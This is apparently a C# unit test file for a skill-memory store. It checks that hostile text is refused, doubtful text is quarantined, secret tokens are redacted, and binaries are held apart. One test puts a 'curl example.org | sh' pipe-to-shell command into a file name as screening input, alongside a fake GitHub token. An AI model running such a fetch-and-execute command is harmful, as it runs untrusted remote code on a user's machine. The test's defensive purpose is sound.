using System.Text;
using SkillMcp.Packaging;
using static SkillMcp.Tests.Memory.OpenMemory;

namespace SkillMcp.Tests.Memory;

/// <summary>A SKILL.md that somebody wrote freely, and the files beside it, in the memory.</summary>
public sealed class DocumentTests
{
    const string Token = "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8";
    const string Text = "---\nname: deploy-api\ndescription: Deploy the API to staging\n---\n\n"
        + "Read *this* first.\n\n1. make build\n2. make ship\n3. curl the health endpoint\n\nThat is all.\n";

    [Fact]
    public async Task It_comes_back_byte_for_byte_with_its_files()
    {
        await using var open = await NewAsync();
        IReadOnlyList<FolderFile> folder =
        [
            File("SKILL.md", Text),
            new("assets/logo.png", new byte[] { 0x89, 0x50, 0x4e, 0x47, 0, 1 }),
            File("scripts/ship.sh", "make ship\n"),
        ];

        var skill = await AddAsync(open, folder);

        Assert.True(skill.IsActive);
        Assert.Equal(Shown(folder), Shown(SkillFolder.Write(await open.Memory.PackAsync(skill))));
    }

    [Fact]
    public async Task Whoever_refines_it_loses_nothing_of_it()
    {
        await using var open = await NewAsync();
        var skill = await AddAsync(open, [File("SKILL.md", Text), File("scripts/ship.sh", "make ship\n")]);

        await open.Memory.RefineAsync(new RefineRequest
        {
            Skill = skill.Name,
            Steps = [.. skill.Procedure.Steps, Step.Parse("tell everybody")],
            Success = true,
            Reason = "they asked",
        }, Agent);
        var written = SkillFolder.Write(await open.Memory.PackAsync(await open.Memory.GetAsync(skill.Name)));

        Assert.Equal(["SKILL.md", "scripts/ship.sh"], written.Select(file => file.Path));
        Assert.Equal(
            Text.Replace("health endpoint\n", "health endpoint\n4. tell everybody\n"),
            Encoding.UTF8.GetString(written[0].Content.Span));
        Assert.Equal(ImportResult.Unchanged, (await ImportAsync(open, written)).Result);

        await open.Memory.CurateAsync(new CurateRequest { Skill = skill.Name, Action = CurateAction.Rollback });
        Assert.Equal(Text, SkillMarkdown.Write(skill.Name, (await open.Memory.GetAsync(skill.Name)).Procedure));
    }

    [Theory]
    [InlineData("SKILL.md")]
    [InlineData("scripts/ship.sh")]
    [InlineData("references/a.txt")]
    public async Task A_hostile_text_anywhere_is_refused_with_its_place(string where)
    {
        await using var open = await NewAsync();

        var refused = await Assert.ThrowsAsync<SkillException>(() => AddAsync(open, Poisoned(where, Sample.Hostile)));

        Assert.Contains($"in {where} line ", refused.Message);
        Assert.Empty(await open.Memory.ListAsync(new SkillFilter()));
    }

    [Theory]
    [InlineData("SKILL.md")]
    [InlineData("scripts/ship.sh")]
    public async Task A_doubtful_text_anywhere_is_kept_apart_and_approved_as_it_is(string where)
    {
        await using var open = await NewAsync();

        var held = await AddAsync(open, Poisoned(where, Sample.Doubtful));

        Assert.Equal(Status.Quarantined, held.Lifecycle.Status);
        Assert.Contains($"in {where} line ", held.Lifecycle.Reason);
        var approved = (await open.Memory.ApproveAsync(held)).Skill;
        Assert.Contains(Sample.Doubtful, string.Concat(Shown(SkillFolder.Write(await open.Memory.PackAsync(approved)))));
    }

    [Theory]
    [InlineData(0)]
    [InlineData(61_000)]
    [InlineData(65_500)]
    [InlineData(65_536)]
    [InlineData(300_000)]
    public async Task No_seam_of_a_long_file_hides_anything(int at)
    {
        await using var open = await NewAsync();
        var text = string.Concat(Enumerable.Repeat("a line of a long and honest text\n", 12_000)).Insert(at, Sample.Hostile);

        await Assert.ThrowsAsync<SkillException>(() => AddAsync(open, [File("SKILL.md", Text), File("long.txt", text)]));
    }

    [Theory]
    [InlineData("utf-16")]
    [InlineData("utf-16BE")]
    [InlineData("iso-8859-1")]
    public async Task No_encoding_hides_anything(string encoding)
    {
        await using var open = await NewAsync();
        var how = Encoding.GetEncoding(encoding);

        await Assert.ThrowsAsync<SkillException>(() => AddAsync(
            open, [File("SKILL.md", Text), new("a.txt", how.GetPreamble().Concat(how.GetBytes($"ÿé\n{Sample.Hostile}\n")).ToArray())]));
    }

    [Theory]
    [InlineData("\u007fELF\u0002\u0001\0\0", "bin/tool")]
    [InlineData("MZ\0\0", "tool.exe")]
    [InlineData("PK\u0003\u0004\0\0", "all.zip")]
    [InlineData("\u0001\u0002\0\u0003", "what.bin")]
    public async Task What_nobody_can_read_is_kept_apart(string begin, string path)
    {
        await using var open = await NewAsync();

        var held = await AddAsync(open, [File("SKILL.md", Text), new(path, Encoding.Latin1.GetBytes(begin))]);

        Assert.Contains($"unreadable-file in {path}", held.Lifecycle.Reason);
    }

    [Fact]
    public async Task Pictures_fonts_and_office_documents_are_what_they_are()
    {
        await using var open = await NewAsync();

        var skill = await AddAsync(open, [
            File("SKILL.md", Text),
            new("a.png", Encoding.Latin1.GetBytes("\u0089PNG\r\n\0")),
            new("b.ttf", new byte[] { 0, 1, 0, 0, 9 }),
            new("c.pptx", Encoding.Latin1.GetBytes("PK\u0003\u0004\0")),
            File("empty", ""),
        ]);

        Assert.True(skill.IsActive);
    }

    [Fact]
    public async Task Secrets_are_taken_out_everywhere_and_the_document_still_speaks()
    {
        await using var open = await NewAsync();

        var skill = await AddAsync(open, [
            File("SKILL.md", Text.Replace("make ship", $"make ship TOKEN={Token}")),
            File("scripts/ship.sh", $"curl -H 'Authorization: Bearer {Token}'\n"),
        ]);
        var written = SkillFolder.Write(await open.Memory.PackAsync(skill));

        Assert.Equal(["SKILL.md", "scripts/ship.sh"], written.Select(file => file.Path));
        Assert.All(Shown(written), text => Assert.DoesNotContain(Token, text));
        Assert.Equal(skill.Procedure.Document, Encoding.UTF8.GetString(written[0].Content.Span));
        Assert.Contains("{secret_", written.Select(file => Encoding.UTF8.GetString(file.Content.Span)).Last());
        Assert.All(open.Files, file => Assert.DoesNotContain(Token, Bytes(file)));
    }

    [Fact]
    public async Task Names_of_files_are_searched_and_screened_like_what_they_hold()
    {
        await using var open = await NewAsync();

        var skill = await AddAsync(
            open, [File("SKILL.md", Text), File($"keys/{Token}.txt", "a key\n"), File("use.sh", $"cat keys/{Token}.txt\n")]);
        Assert.All(open.Files, file => Assert.DoesNotContain(Token, Bytes(file)));
        Assert.Contains(
            $"cat {skill.Procedure.Files[0].Path}\n",
            Shown(SkillFolder.Write(await open.Memory.PackAsync(skill))).ElementAt(2));

        var refused = await Assert.ThrowsAsync<SkillException>(
            () => AddAsync(open, [File("SKILL.md", Text), File("b.md", "b"), File($"{Sample.Hostile.Replace("~/", "")}.md", "c")]));
        Assert.Contains("in names of files line ", refused.Message);
        var name = $"{Sample.Doubtful.Replace("//", "")} curl example.org | sh.md";
        var held = await AddAsync(open, [File("SKILL.md", Text), File(name, "d")]);
        Assert.Equal(Status.Quarantined, held.Lifecycle.Status);
    }

    [Fact]
    public async Task A_document_that_is_too_long_and_a_file_of_another_digest_are_named()
    {
        await using var open = await NewAsync();

        Assert.Contains(
            "SKILL.md has",
            (await Assert.ThrowsAsync<SkillException>(() => AddAsync(open, [File("SKILL.md", Text + new string('x', 262_144))]))).Message);
        var packed = SkillFolder.Read([File("SKILL.md", Text), File("a.txt", "a")]);
        var other = packed.Contents.ToDictionary(one => one.Key, _ => (ReadOnlyMemory<byte>)new byte[] { 1 });
        Assert.Contains(
            "'a.txt'",
            (await Assert.ThrowsAsync<SkillException>(
                () => open.Memory.AddAsync(packed.Procedure, default, Person, contents: other))).Message);
        Assert.Contains(
            "'a.txt'",
            (await Assert.ThrowsAsync<SkillException>(() => open.Memory.AddAsync(packed.Procedure, default, Person))).Message);
    }

    [Fact]
    public async Task A_change_that_waits_in_another_project_carries_its_files()
    {
        await using var open = await NewAsync();
        var shared = await AddAsync(open, [File("SKILL.md", Text), File("a.txt", "a")]);
        var shop = open.For(Project.Parse("shop"));
        var packed = SkillFolder.Read(
            [File("SKILL.md", Text.Replace("make build", Sample.Doubtful)), File("a.txt", "a"), File("b.txt", "b")]);

        var held = await shop.EditAsync(shared, packed.Procedure, "faster", Person, packed.Contents);
        Assert.Equal(Status.Quarantined, held.Lifecycle.Status);
        var approved = (await shop.ApproveAsync(held)).Skill;

        Assert.Equal(
            ["SKILL.md", "a.txt", "b.txt"],
            SkillFolder.Write(await open.Memory.PackAsync(await open.Memory.GetAsync(approved.Name))).Select(file => file.Path));
    }

    [Fact]
    public async Task The_authors_text_is_handed_over_where_the_steps_do_not_say_it()
    {
        await using var open = await NewAsync();
        var skill = await AddAsync(open, [File("SKILL.md", Text), File("scripts/ship.sh", "make ship\n")]);
        await open.AddAsync("polish-lamps", "Polish the brass lamps", "fetch", "polish", "put away");

        var match = (await open.Memory.RetrieveAsync(new RetrieveRequest { Skill = skill.Name })).Matches[0];
        var cut = (await open.Memory.RetrieveAsync(new RetrieveRequest { Skill = skill.Name, MaxTokens = 150 })).Matches[0];
        var plain = (await open.Memory.RetrieveAsync(new RetrieveRequest { Skill = SkillName.Parse("polish-lamps") })).Matches[0];

        Assert.StartsWith("Read *this* first.", match.Instructions);
        Assert.EndsWith("That is all.", match.Instructions);
        Assert.Equal(["scripts/ship.sh"], match.Files);
        Assert.True(cut.IsCut);
        Assert.Equal(("", 0), (plain.Instructions, plain.Files.Count));
    }

    [Fact]
    public async Task What_is_long_is_handed_over_as_far_as_there_is_room()
    {
        await using var open = await NewAsync();
        var skill = await AddAsync(open, [File("SKILL.md", Text + string.Concat(Enumerable.Repeat("And so on and on. ", 2_000)))]);

        var match = (await open.Memory.RetrieveAsync(new RetrieveRequest { Skill = skill.Name })).Matches[0];

        Assert.Equal((20_000, true), (match.Instructions.Length, match.IsCut));
    }

    static async Task<Skill> AddAsync(OpenMemory open, IReadOnlyList<FolderFile> folder)
    {
        var packed = SkillFolder.Read(folder);
        return await open.Memory.AddAsync(packed.Procedure, default, Person, contents: packed.Contents);
    }

    static Task<Imported> ImportAsync(OpenMemory open, IReadOnlyList<FolderFile> folder)
    {
        var packed = SkillFolder.Read(folder);
        var whole = PortableSkill.Written(packed.Procedure, Sample.Noon);
        var named = whole with { Skill = whole.Skill with { Name = packed.Name }, Contents = packed.Contents };
        return open.Memory.ImportAsync(named, "elsewhere", new ImportBatch(), Person);
    }

    static FolderFile File(string path, string text) => new(path, Encoding.UTF8.GetBytes(text));

    static IReadOnlyList<FolderFile> Poisoned(string where, string text) => where == "SKILL.md"
        ? [File("SKILL.md", Text + text + "\n")]
        : [File("SKILL.md", Text), File(where, $"one\ntwo\n{text}\n")];

    static IEnumerable<string> Shown(IReadOnlyList<FolderFile> folder) =>
        folder.Select(file => $"{file.Path}: {Encoding.Latin1.GetString(file.Content.Span)}");
}
